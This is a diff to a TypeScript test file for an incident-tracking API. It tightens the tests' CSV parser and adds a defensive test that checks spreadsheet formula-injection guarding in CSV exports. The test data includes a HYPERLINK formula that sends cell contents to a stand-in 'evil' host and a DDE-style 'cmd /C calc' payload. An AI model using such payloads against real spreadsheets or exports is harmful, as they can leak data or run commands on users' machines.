@@ -29,17 +29,20 @@ const TRICKY = 'Dock 3, "north"\r\nline two\nÅsa – 東京 🚧';
 
 type Row = Record<string, unknown>;
 
-/** RFC 4180: records end in CRLF; quoted fields may hold commas, doubled quotes, CR and LF. */
+/**
+ * Strict RFC 4180: records end in CRLF; a quoted field (commas, doubled quotes, CR and LF inside)
+ * ends at a quote followed by a comma or CRLF; an unquoted field holds no quote, CR or LF.
+ */
 function parseCsv(text: string): string[][] {
   const records: string[][] = [];
   let record: string[] = [];
-  let field = '';
   let i = 0;
   while (i < text.length) {
-    const c = text[i];
-    if (c === '"' && field === '') {
+    let field = '';
+    if (text[i] === '"') {
       // A quoted field runs to the next quote that is not doubled.
       for (i += 1; ; i += 1) {
+        assert.ok(i < text.length, 'a quoted field is closed');
         if (text[i] === '"' && text[i + 1] === '"') {
           field += '"';
           i += 1;
@@ -47,23 +50,24 @@ function parseCsv(text: string): string[][] {
         else field += text[i];
       }
       i += 1;
-    } else if (c === ',') {
-      record.push(field);
-      field = '';
-      i += 1;
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      record.push(field);
-      records.push(record);
-      record = [];
-      field = '';
-      i += 2;
     } else {
-      assert.notEqual(c, '\n', 'a bare LF outside quotes');
-      field += c;
-      i += 1;
+      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
+        assert.ok(!'"\n'.includes(text[i] as string), `no quote or bare LF in an unquoted field at ${i}`);
+        field += text[i];
+        i += 1;
+      }
     }
+    record.push(field);
+    if (text[i] === ',') {
+      i += 1;
+      continue;
+    }
+    assert.equal(text.slice(i, i + 2), '\r\n', `a field ends in a comma or CRLF at ${i}`);
+    i += 2;
+    records.push(record);
+    record = [];
   }
-  assert.equal(field, '', 'the last record ends in CRLF');
+  assert.deepEqual(record, [], 'the last record ends in CRLF');
   return records;
 }
 
@@ -218,6 +222,111 @@ for (const store of STORES) {
       const users = (await get(`${API}/exports/users.csv`)).body.split('\r\n');
       const bob = users.find((line) => line.includes(',bob,'));
       assert.match(String(bob), /,manager,,,2025-03-01T10:00:00.000Z$/, 'null department and job title');
+    });
+
+    test('CSV: text cells that begin like a formula get a leading quote; NDJSON and other cells are untouched', async () => {
+      const formulas = [
+        '=HYPERLINK("http://evil/?"&A1,"click")',
+        "+cmd|' /C calc'!A0",
+        '-2+3',
+        '@SUM(A1)',
+        '\t=1',
+        '\r=1',
+      ];
+      const guarded = (text: string) => `'${text}`;
+      const account = await seedAccount(ctx.db);
+      const key = (await seedKey(ctx.db, account)).rawKey;
+      await seedIncidents(ctx.db, account, formulas.length, (i) => ({
+        description: formulas[i],
+        location: formulas[formulas.length - 1 - i],
+        severity_likelihood: -2,
+        incident_date: '2025-01-02',
+      }));
+      await ctx.db
+        .insertInto('users')
+        .values(
+          formulas.map((formula, i) => ({
+            id: randomUUID(),
+            account_id: account,
+            name: `${formula} ${i}`,
+            email: `${i}@example.com`,
+            role: 'manager',
+            department: formula,
+            job_title: 'Supervisor',
+            active: 1,
+            vendor_support: 0,
+            created_at: T,
+          })),
+        )
+        .execute();
+      for (const table of ['departments', 'locations'] as const) {
+        await ctx.db
+          .insertInto(table)
+          .values(
+            formulas.map((name) => ({
+              id: randomUUID(),
+              account_id: account,
+              name,
+              active: 1,
+              created_at: T,
+            })),
+          )
+          .execute();
+      }
+      const text = new Set([
+        'incident_number',
+        'description',
+        'status',
+        'location',
+        'name',
+        'email',
+        'role',
+        'department',
+        'job_title',
+      ]);
+
+      for (const resource of RESOURCES) {
+        const exported = (format: string) =>
+          ctx.app.inject({ url: `${API}/exports/${resource}.${format}`, headers: bearer(key) });
+        const rows = parseNdjson((await exported('ndjson')).body);
+        assert.equal(rows.length, formulas.length, resource);
+        const [header, ...records] = parseCsv((await exported('csv')).body);
+        assert.deepEqual(header, Object.keys(rows[0] as Row), resource);
+        // Each CSV cell is the NDJSON value as text, with a leading quote exactly where a text
+        // field begins with = + - @ TAB or CR.
+        const expected = rows.map((row) =>
+          Object.entries(row).map(([field, value]) => {
+            if (value === null) return '';
+            const written = String(value);
+            return text.has(field) && /^[=+\-@\t\r]/.test(written) ? guarded(written) : written;
+          }),
+        );
+        assert.deepEqual(records, expected, resource);
+        // What the NDJSON carries is the stored text, untouched.
+        const values = rows.flatMap((row) => Object.values(row));
+        for (const formula of formulas) {
+          assert.ok(
+            values.some((value) => typeof value === 'string' && value.startsWith(formula)),
+            `${resource}: ${JSON.stringify(formula)} in the NDJSON as stored`,
+          );
+        }
+      }
+      const [, first] = parseCsv((await get(`${API}/exports/incidents.csv`)).body);
+      assert.ok(
+        first !== undefined && !first.some((cell) => cell.startsWith("'")),
+        'ordinary rows unchanged',
+      );
+      const incidents = parseCsv(
+        (await ctx.app.inject({ url: `${API}/exports/incidents.csv`, headers: bearer(key) })).body,
+      );
+      const columns = incidents[0] ?? [];
+      for (const row of incidents.slice(1)) {
+        const cell = (name: string) => row[columns.indexOf(name)];
+        assert.equal(cell('severity_likelihood'), '-2', 'a negative number stays a number');
+        assert.equal(cell('severity_score'), '-6');
+        assert.equal(cell('incident_date'), '2025-01-02');
+        assert.ok(formulas.map(guarded).includes(String(cell('description'))));
+      }
     });
 
     test('gzip when Accept-Encoding admits it, never when q=0', async () => {
